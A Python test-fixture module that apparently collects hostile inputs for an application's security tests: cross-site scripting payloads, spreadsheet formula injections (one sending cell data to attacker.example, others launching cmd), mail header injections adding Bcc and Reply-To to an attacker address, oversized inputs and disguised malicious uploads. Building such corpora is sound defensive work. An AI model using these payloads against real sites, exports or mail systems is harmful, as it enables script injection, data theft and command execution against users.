"""The hostile-input corpus: what an attacker types, mails or uploads, in one place.

Every script payload tries to set `window.__xss` (and most also open a dialog), so a browser test
only has to look at one variable and listen for dialogs. Surfaces take what fits them: a
single-line field takes each payload on its own (they are all shorter than 255 characters); a
message body takes them all at once (EVERYTHING).
"""

from __future__ import annotations

# ---------------------------------------------------------------------------- script and markup

XSS: dict[str, str] = {
    "script": "<script>window.__xss='script';alert('script')</script>",
    "img-onerror": "<img src=x onerror=\"window.__xss='img';alert('img')\">",
    "svg-onload": "<svg onload=\"window.__xss='svg-onload'\"></svg>",
    "svg-script": "<svg><script>window.__xss='svg-script'</script></svg>",
    "js-url": "<a href=\"javascript:window.__xss='js-url'\">open</a>",
    "js-url-obfuscated": "<a href=\"jav&#x09;ascript&colon;window.__xss='js-url2'\">open</a>",
    "data-url": "<a href=\"data:text/html,<script>opener.__xss='data'</script>\">open</a>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>",
    "object-data": '<object data="data:text/html,&lt;script&gt;parent.__xss=1&lt;/script&gt;"></object>',
    "attribute-breakout": '"><img src=x onerror="window.__xss=\'attr\'">',
    "single-quote-breakout": "'><img src=x onerror=window.__xss='sq'>",
    "js-string-breakout": "';window.__xss='js-string';//\";window.__xss='js-string2';//",
    "textarea-breakout": "</textarea><img src=x onerror=\"window.__xss='textarea'\">",
    "title-breakout": "</title><script>window.__xss='title'</script>",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.__xss='noscript'>\">",
    "mxss-svg-style": "<svg><style><img src=x onerror=window.__xss='svg-style'></style></svg>",
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss='math'>",
    "details-ontoggle": "<details open ontoggle=\"window.__xss='ontoggle'\">x</details>",
    "autofocus": "<input autofocus onfocus=\"window.__xss='onfocus'\">",
    "markdown-link": "[click me](javascript:window.__xss='md-link')",
    "markdown-image": "![x](x\" onerror=\"window.__xss='md-img')",
    "css-url": "<div style=\"background:url(javascript:window.__xss='css')\">x</div>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=\'meta\'">',
    "base-href": "<base href=\"javascript:window.__xss='base'//\">",
    "form-action": "<form action=\"javascript:window.__xss='form'\"><button>go</button></form>",
}
EVERYTHING = "\n\n".join(f"{name}: {payload}" for name, payload in XSS.items())

# Spreadsheet formulas: harmless on a page, dangerous in a CSV export opened in a spreadsheet.
CSV_FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

# ---------------------------------------------------------------------------- mail headers

ATTACKER = "billing@attacker.example"
# A single-line field that becomes a header, or is decoded into one: raw CR/LF and RFC 2047
# encoded words that carry CR/LF (issue 10, item 1).
HEADER_INJECTIONS = {
    "crlf": f"Invoice overdue\r\nReply-To: {ATTACKER}\r\nX-Injected: crlf",
    "lf": f"Invoice overdue\nBcc: {ATTACKER}\nX-Injected: lf",
    "encoded-q": "=?utf-8?q?Invoice_overdue=0D=0AReply-To=3A_billing=40attacker=2Eexample=0D=0AX-Injected=3A_1?=",
    "encoded-b": "=?utf-8?b?SW52b2ljZQ0KQmNjOiBiaWxsaW5nQGF0dGFja2VyLmV4YW1wbGUNClgtSW5qZWN0ZWQ6IDI=?=",
}
INJECTED_HEADER_NAMES = {"x-injected", "bcc"}

# ---------------------------------------------------------------------------- size

OVERLONG_LINE = "A" * 10_000  # a single-line field ten thousand characters long
OVERLONG_BODY = "B" * 2_000_000  # far beyond MAX_MESSAGE_LENGTH

# ---------------------------------------------------------------------------- uploads

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=\'svg-file\'">'
    b"<script>window.__xss='svg-file-script';alert(1)</script></svg>"
)
HTML_FILE = b"<html><body><script>window.__xss='html-file';alert(1)</script></body></html>"
EXE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"

# (file name, bytes, declared content type)
UPLOADS = [
    ('"><img src=x onerror="window.__xss=\'file-name\'">.html', HTML_FILE, "text/html"),
    ("drawing.svg", SVG_WITH_SCRIPT, "image/svg+xml"),
    ("empty.txt", b"", "text/plain"),
    ("invoice.pdf", EXE_HEADER, "application/pdf"),  # an executable renamed .pdf
    ("<svg onload=window.__xss='name2'>.png", SVG_WITH_SCRIPT, "image/png"),  # SVG declared as PNG
]
